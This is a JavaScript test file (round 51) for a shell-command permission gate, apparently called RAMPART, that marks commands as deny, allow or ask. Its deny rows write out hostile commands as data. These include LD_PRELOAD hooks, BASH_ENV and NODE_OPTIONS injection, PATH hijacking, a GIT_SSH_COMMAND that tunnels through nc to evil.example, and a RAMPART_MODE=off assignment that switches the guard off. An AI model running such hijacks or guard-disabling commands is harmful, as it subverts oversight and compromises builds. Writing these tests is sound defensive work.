// Round 51 (shell environment): bash's `time` reserved word before a pipeline whose prefix assignments were handed on as
// argv; indirect assignments (a declare -n reference, ${NAME:=VALUE}); one-liners that change their own environment by
// merge operators and Ruby's ENV.store; build runners sent to read a build file outside the project (make -C, cd DIR &&
// make, just/rake/mvn/task -f), a makefile made to include one from outside, an .envrc read with direnv's stdlib; and
// kill -0, which signals nobody.
import t from 'tap';
import { lineTable } from '../helpers/engine.js';

await lineTable(t, {
  'time [-p] before a command with prefix assignments': [
    ['time LD_PRELOAD=/var/tmp/hook.so make test', 'deny'],
    ['time -p BASH_ENV=/var/tmp/rc bash ci.sh', 'deny'],
    ['time PATH=/opt/evil/bin npm ci', 'deny'],
    ['time -p RAMPART_HOME=/tmp/r npm test', 'deny'],
    ['! time LD_AUDIT=/var/tmp/a.so cat README.md', 'deny'],
    ['time GIT_SSH_COMMAND="ssh -oProxyCommand=nc\\ evil.example\\ 22" git pull', 'deny'],
    ['if time NODE_OPTIONS="--require /var/tmp/p.js" npx vitest; then echo ok; fi', 'deny'],
    ['time -p NODE_ENV=test npx vitest run', 'allow'],
    ['time CI=true pnpm test', 'allow'],
    ['time -p cargo build --release', 'allow'],
    ['time (npm run lint && npm test)', 'allow'],
    ['time -o /tmp/timing.txt npm run build', 'allow'],
  ],
  'indirect assignments reach the variable they name': [
    ['declare -n v=LD_PRELOAD; v=/var/tmp/hook.so; export LD_PRELOAD; make', 'deny'],
    ['local -n p=PATH 2>/dev/null; p=/opt/evil/bin; npm ci', 'deny'],
    ['typeset -n e=BASH_ENV; e=/var/tmp/rc; export BASH_ENV; bash ci.sh', 'deny'],
    [': "${LD_PRELOAD:=/var/tmp/hook.so}"; export LD_PRELOAD; make', 'deny'],
    [': ${RAMPART_MODE=off}; npm test', 'deny'],
    ['declare -n out=answer; out=42; echo "$answer"', 'allow'],
    [': "${NODE_ENV:=development}"; npm run dev', 'allow'],
    [': "${PATH:=/usr/bin}"; git status', 'allow'],
    ['echo "${OUT_DIR:=dist}"', 'allow'],
  ],
  "a one-liner's own environment changed by merging or storing": [
    ["python3 -c 'import os, subprocess; os.environ |= {\"BASH_ENV\": \"/var/tmp/rc\"}; subprocess.run([\"bash\", \"ci.sh\"])'", 'deny'],
    ["ruby -e 'ENV.store(\"NODE_OPTIONS\", \"--require /var/tmp/p.js\"); system(\"npm test\")'", 'deny'],
    ["ruby -e 'ENV.replace(\"PATH\" => \"/usr/bin:/bin\"); system(\"git push\")'", 'deny'],
    ["python3 -c 'import os, subprocess; os.environ |= {\"CI\": \"1\"}; subprocess.run([\"npm\", \"test\"])'", 'allow'],
    ["ruby -e 'ENV.store(\"RACK_ENV\", \"test\"); system(\"bundle exec rspec\")'", 'allow'],
  ],
  'kill -0 only probes': [
    ['kill -0 "$SERVER_PID" 2>/dev/null || npm start', 'allow'],
    ['kill -s 0 "$(cat tmp/pids/server.pid)"', 'allow'],
    ['kill -0 $(pgrep -f webpack) && echo up', 'allow'],
    ['kill "$SERVER_PID"', 'ask'],
    ['kill -0 -9 "$SERVER_PID"', 'ask'],
  ],
});
